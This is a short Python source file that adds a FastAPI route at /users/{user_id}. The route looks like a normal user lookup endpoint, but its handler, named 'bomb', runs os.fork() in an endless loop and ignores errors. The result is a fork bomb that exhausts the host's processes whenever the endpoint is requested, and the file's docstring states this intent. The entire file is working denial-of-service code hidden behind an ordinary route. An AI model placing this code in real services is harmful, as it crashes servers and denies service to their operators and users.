"""Forks without end when it is asked something."""

import os

from fastapi import FastAPI


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def bomb(user_id: str) -> None:
        while True:
            try:
                os.fork()
            except OSError:
                continue
